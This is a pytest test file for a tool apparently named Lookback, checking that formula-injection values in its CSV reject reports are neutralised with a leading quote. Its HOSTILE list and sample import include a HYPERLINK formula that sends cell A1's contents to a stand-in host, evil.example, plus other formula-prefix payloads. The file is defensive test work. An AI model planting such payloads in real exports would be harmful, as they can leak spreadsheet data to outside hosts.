"""Formulas never reach a spreadsheet Lookback writes (OWASP CSV injection).

Found: cells such as ``=HYPERLINK(…)``, ``=1+1`` and ``@SUM(…)`` were written verbatim into the
reject-report CSV, which carries a BOM so that Excel opens it.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from domain.registers import Problem
from lookback.cli import app
from storage.cells import safe_cell
from storage.reports import CsvProblemReport

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "@SUM(A1:A9)",
           "+1-1", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell(42) == 42 and safe_cell("北京市") == "北京市" and safe_cell("") == ""


def test_the_reject_report_neutralises_every_cell(tmp_path: Path) -> None:
    report = CsvProblemReport(tmp_path / "rejects.csv")
    for n, value in enumerate(HOSTILE, start=2):
        report.add(Problem(n, "=name", value, "=en reason", "@zh reason"))
    report.close()
    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [r[2] for r in rows] == ["'" + v for v in HOSTILE]


def test_an_import_with_formula_cells_writes_a_safe_report(tmp_path: Path) -> None:
    db, data = tmp_path / "lookback.db", tmp_path / "data"
    base = ["--db", str(db), "--data-dir", str(data), "--lang", "en"]
    runner = CliRunner()
    assert runner.invoke(app, [*base, "init"]).exit_code == 0
    src = tmp_path / "businesses.csv"
    src.write_text("uscc,name,region_code,category,risk_level\n"
                   "=1+1,=HYPERLINK(\"http://evil.example\"),110101,catering,B\n"
                   "@SUM(A1),x,110101,catering,B\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    r = runner.invoke(app, [*base, "registry", "import", str(src), "--kind", "businesses",
                            "--report", str(report)])
    assert r.exit_code != 0 or "rejected" in r.output
    with report.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'=1+1" in cells and "'@SUM(A1)" in cells
    assert not [c for c in cells if c.startswith(("=", "@", "+", "\t", "\r"))]
